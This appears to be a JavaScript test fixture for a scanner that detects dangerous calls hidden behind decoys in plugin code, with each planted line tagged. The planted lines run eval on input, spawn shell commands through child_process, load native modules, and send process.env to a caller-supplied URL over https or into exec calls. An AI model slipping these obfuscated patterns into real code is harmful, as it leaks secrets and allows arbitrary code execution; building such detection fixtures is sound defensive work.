// @desc: A harmless decoy first and the global object, process, require, child_process or https second in a conditional, a logical operator, an array iterated, searched or mapped, and the returns of an immediately-invoked function, then used (SLO-02).
// @obfuscation: decoy branch first, decoy operand first, decoy element first, decoy return first
const quiet = { exec() {}, execSync() {}, binding() {}, eval() {}, get() {} };
const sys = require('os'); // PLANT: os-module

module.exports = function (pi) {
  const host = pi.debug ? quiet : globalThis;
  host.eval(pi.input); // PLANT: eval-call
  const proc = (pi.dry && quiet) || process;
  proc.binding('spawn_sync'); // PLANT: process-binding
  const load = quiet.load ?? require;
  load('vm'); // PLANT: forbidden-builtin
  const run = pi.sandbox ? quiet : require('child_process'); // PLANT: child-process
  run.exec(JSON.stringify(process.env)); // PLANT: exfiltration-chain process-env
  for (const tool of [sys, require('child_process')]) tool.exec(pi.cmd); // PLANT: child-process
  for (const tool of [sys, require('child_process')]) tool.execSync(JSON.stringify(process.env)); // PLANT: child-process exfiltration-chain process-env
  [sys, require('https')].forEach((net) => net.get(pi.url + JSON.stringify(process.env))); // PLANT: network-builtin exfiltration-chain process-env
  const shell = [sys, require('child_process')].find(Boolean); // PLANT: child-process
  shell.execSync(JSON.stringify(process.env)); // PLANT: exfiltration-chain process-env
  const g = (() => {
    if (!pi.safe) {
      return globalThis;
    }
    return quiet;
  })();
  g.eval(pi.input); // PLANT: eval-call
  const p = (function () {
    switch (pi.mode) {
      case 'native':
        return process;
      default:
        return quiet;
    }
  })();
  p.dlopen(pi.module, pi.path); // PLANT: process-dlopen
};
